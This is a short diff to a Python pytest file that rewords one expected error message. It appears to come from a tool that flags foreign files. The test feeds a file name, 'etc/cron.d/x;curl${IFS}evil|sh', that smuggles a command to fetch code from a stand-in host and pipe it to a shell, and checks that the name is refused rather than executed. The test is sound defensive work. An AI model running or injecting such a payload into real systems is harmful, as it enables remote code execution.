@@ -104,7 +104,7 @@ def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: D
     bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
     (line,) = foreign.problems(bare.look())
     assert line.endswith("correct this by hand, or accept that name in group_data (foreign_accepted)")
-    with pytest.raises(RefusedError, match="is not the name of a foreign finding that can be removed"):
+    with pytest.raises(RefusedError, match="is not the name of a foreign thing that can be removed"):
         bare.remove("/etc/cron.d/x;curl${IFS}evil|sh")
 
 
